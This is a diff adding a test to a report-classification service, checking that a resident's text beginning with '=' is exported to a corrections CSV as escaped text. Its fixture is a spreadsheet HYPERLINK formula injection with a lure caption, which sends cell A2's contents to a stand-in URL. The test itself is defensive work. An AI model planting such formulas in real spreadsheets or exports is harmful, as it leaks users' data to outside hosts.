@@ -192,3 +192,23 @@ async def test_a_report_classified_after_its_closing_is_placed_when_sent_back(
     assert rated.json()["status"] == "open"
     item = (await client.get(url, headers=staff)).json()
     assert item["case_id"] is not None
+
+
+async def test_a_text_that_reads_as_a_formula_is_exported_as_text(
+    client: Any, drain: Any, staff: dict[str, str], conn: Any, tmp_path: Path
+) -> None:
+    """Staff open the export in a spreadsheet: a resident's text beginning with = ran there as a formula (a link that
+    sends the sheet's cells away, a command). The cell says it is text, and training reads the words as they were."""
+    from ml.corpus import read_extra
+
+    formula = '=HYPERLINK("http://example.com/?"&A2,"楼下烧烤店油烟太大，请点此查看照片")'
+    item = await classified_item(client, drain, staff, text=formula)
+    new_topic = "环境保护" if item["classification"]["topic"] != "环境保护" else "商贸旅游"
+    put = await client.put(f"/api/v1/items/{item['id']}/classification", json={"topic": new_topic}, headers=staff)
+    assert put.status_code == 200, put.text
+    out = tmp_path / "corrections.csv"
+    assert await export_corrections(conn, out) == 1
+    with out.open(encoding="utf-8") as rows:
+        [row] = list(csv.DictReader(rows))
+    assert row["text"] == "'" + formula
+    assert [extra.text for extra in read_extra(out, [new_topic])] == [formula]
